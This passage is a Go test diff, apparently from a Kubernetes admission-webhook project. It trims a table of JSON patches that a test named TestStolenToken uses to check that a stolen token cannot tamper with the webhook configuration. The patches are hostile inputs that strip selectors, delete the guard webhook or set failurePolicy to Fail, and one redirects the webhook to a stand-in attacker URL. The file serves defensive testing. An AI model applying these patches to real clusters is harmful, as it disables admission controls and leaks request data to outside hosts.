@@ -39,17 +39,12 @@ func TestStolenToken(t *testing.T) {
 	hub.Kubectl(t, "delete", "clusterrolebinding,clusterrole", "mistake")
 
 	for what, patch := range map[string]string{
-		"see other objects":           `[{"op": "remove", "path": "/webhooks/0/objectSelector"}]`,
-		"see other kinds of requests": `[{"op": "add", "path": "/webhooks/0/rules/0/operations/-", "value": "CREATE"}]`,
-		"be asked about the system":   `[{"op": "remove", "path": "/webhooks/0/matchConditions"}]`,
-		"see other namespaces":        `[{"op": "remove", "path": "/webhooks/1/namespaceSelector"}]`,
-		"block the cluster":           `[{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}]`,
-		"be called elsewhere":         `[{"op": "replace", "path": "/webhooks/0/clientConfig/service/name", "value": "other"}]`,
-		"slow requests down":          `[{"op": "replace", "path": "/webhooks/0/timeoutSeconds", "value": 30}]`,
-		"end the guard":               `[{"op": "remove", "path": "/webhooks/1"}]`,
-		"hide it from its owner":      `[{"op": "add", "path": "/metadata/labels", "value": {}}]`,
-		"note something":              `[{"op": "add", "path": "/metadata/annotations", "value": {"a": "b"}}]`,
-		"keep it from being deleted":  `[{"op": "add", "path": "/metadata/finalizers", "value": ["a.example.org/b"]}]`,
+		"see other objects":      `[{"op": "remove", "path": "/webhooks/0/objectSelector"}]`,
+		"block the cluster":      `[{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}]`,
+		"be called elsewhere":    `[{"op": "replace", "path": "/webhooks/0/clientConfig/service/name", "value": "other"}]`,
+		"end the guard":          `[{"op": "remove", "path": "/webhooks/1"}]`,
+		"hide it from its owner": `[{"op": "add", "path": "/metadata/labels", "value": {}}]`,
+		"note something":         `[{"op": "add", "path": "/metadata/annotations", "value": {"a": "b"}}]`,
 		"be called outside": `[{"op": "remove", "path": "/webhooks/0/clientConfig/service"},
 			{"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example.org"}]`,
 		"have it collected": `[{"op": "add", "path": "/metadata/ownerReferences", "value": [
